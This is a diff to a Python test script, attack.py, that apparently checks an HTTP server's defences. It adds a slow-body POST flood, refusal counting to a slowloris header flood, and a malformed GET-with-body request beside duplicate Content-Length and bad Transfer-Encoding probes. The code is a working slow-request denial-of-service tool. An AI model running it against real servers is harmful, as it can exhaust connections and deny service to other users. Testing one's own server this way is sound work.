@@ -13,8 +13,10 @@ address, so that the per-address limit is the attacker's, not the client's).
         each trickling a byte every 2 s; prints "probe=STATUS cut=K/N" where
         probe is a normal client's GET meanwhile and cut how many the server
         closed before the trickle would have ended the head (30 s)
+  attack.py slowbody PORT N SRC         N POSTs with a declared 1 MB body sent a
+        byte every 2 s; prints "cut=K/N": how many the server closed within 40 s
   attack.py raw PORT NAME               one malformed request (dup-length,
-        bad-te); prints the status, or "none" if unanswered in 5 s
+        bad-te, get-body); prints the status, or "none" if unanswered in 5 s
 """
 import select
 import socket
@@ -87,6 +89,14 @@ def slow(port, n, src):
         s.sendall(f"GET / HTTP/1.1\r\nHost: {HOST}:{port}\r\nX-a: ".encode())
         socks.append(s)
     status = probe(port, "/static/app.css")
+    time.sleep(0.5)
+    refused = 0  # closed at once: past the per-address limit
+    for s in socks:
+        r, _, _ = select.select([s], [], [], 0)
+        try:
+            refused += bool(r) and not s.recv(64, socket.MSG_PEEK)
+        except OSError:
+            refused += 1
     open_ = set(range(n))
     t0 = time.time()
     while open_ and time.time() - t0 < 30:
@@ -100,7 +110,35 @@ def slow(port, n, src):
                 socks[i].send(b"a")
             except OSError:
                 open_.discard(i)
-    print(f"probe={status} cut={n - len(open_)}/{n}")
+    print(f"probe={status} cut={n - len(open_)}/{n} refused={refused}")
+    for s in socks:
+        s.close()
+
+
+def slowbody(port, n, src):
+    socks = []
+    for _ in range(n):
+        s = socket.socket()
+        s.bind((src, 0))
+        s.settimeout(5)
+        s.connect((HOST, port))
+        s.sendall(f"POST /api/rescore HTTP/1.1\r\nHost: {HOST}:{port}\r\n"
+                  f"Content-Type: application/json\r\nContent-Length: 1000000\r\n\r\n".encode())
+        socks.append(s)
+    open_ = set(range(n))
+    t0 = time.time()
+    while open_ and time.time() - t0 < 40:
+        time.sleep(2)
+        for i in list(open_):
+            try:
+                r, _, _ = select.select([socks[i]], [], [], 0)
+                if r and not socks[i].recv(64):
+                    open_.discard(i)
+                    continue
+                socks[i].send(b"x")
+            except OSError:
+                open_.discard(i)
+    print(f"cut={n - len(open_)}/{n}")
     for s in socks:
         s.close()
 
@@ -109,6 +147,7 @@ def raw(port, name):
     reqs = {
         "dup-length": "POST /api/rescore HTTP/1.1\r\nHost: {h}\r\nContent-Length: 2\r\n"
                       "Content-Length: 2\r\nContent-Type: application/json\r\n\r\n{{}}",
+        "get-body": "GET /api/forms HTTP/1.1\r\nHost: {h}\r\nContent-Length: 5\r\n\r\nhello",
         "bad-te": "POST /api/rescore HTTP/1.1\r\nHost: {h}\r\nTransfer-Encoding: gzip\r\n"
                   "Content-Type: application/json\r\n\r\n",
     }
@@ -128,5 +167,7 @@ if __name__ == "__main__":
              sys.argv[6] if len(sys.argv) > 6 else None)
     elif cmd == "slow":
         slow(port, int(sys.argv[3]), sys.argv[4])
+    elif cmd == "slowbody":
+        slowbody(port, int(sys.argv[3]), sys.argv[4])
     else:
         raw(port, sys.argv[3])
